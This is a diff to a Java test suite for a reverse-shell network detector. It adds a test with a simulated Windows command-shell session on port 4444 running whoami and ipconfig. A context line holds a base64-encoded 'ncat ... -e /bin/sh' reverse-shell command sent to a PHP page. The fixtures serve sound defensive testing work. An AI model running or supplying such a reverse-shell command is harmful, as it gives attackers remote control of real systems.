@@ -138,6 +138,22 @@ class ReverseShellDetectorTest {
     }
 
     @Test
+    void windowsCmdShellWithoutPayload() {
+        ConnInfo c = Ev.conn(30, "10.0.0.7", "10.0.0.66", 4444);
+        TcpSession s = Ev.session(c,
+                chunk(true, 1, "Microsoft Windows [Version 10.0.19045.3570]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\inetpub\\wwwroot>"),
+                chunk(false, 2, "whoami\r\n"), chunk(true, 3, "whoami\r\nnt authority\\system\r\n\r\nC:\\inetpub\\wwwroot>"),
+                chunk(false, 4, "ipconfig\r\n"), chunk(true, 5, "ipconfig\r\n\r\nWindows IP Configuration\r\n\r\nC:\\inetpub\\wwwroot>"));
+        Finding f = run(s).get(0);
+        assertThat(f.evidence()).containsEntry("commands", List.of("whoami", "ipconfig")).containsEntry("prompt", "C:\\inetpub\\wwwroot>");
+        assertThat(f.techniques()).containsExactly("T1059.003");
+        @SuppressWarnings("unchecked")
+        List<Map<String, Object>> rows = (List<Map<String, Object>>) f.evidence().get("transcript");
+        assertThat(rows.get(0)).containsEntry("output", "nt authority\\system");
+        assertThat(f.attacker()).isEqualTo("10.0.0.66");
+    }
+
+    @Test
     void payloadAddressInAnotherSpellingStillMatches() {
         var trigger = Ev.get(Ev.conn(7, "fd77:6b0:1::66", "fd77:6b0:1::45", 80), 100,
                 "/u/t.php?x=" + java.util.Base64.getEncoder().encodeToString(Ev.bytes("ncat fd77:06b0:0001:0:0:0:0:66 443 -e /bin/sh")));
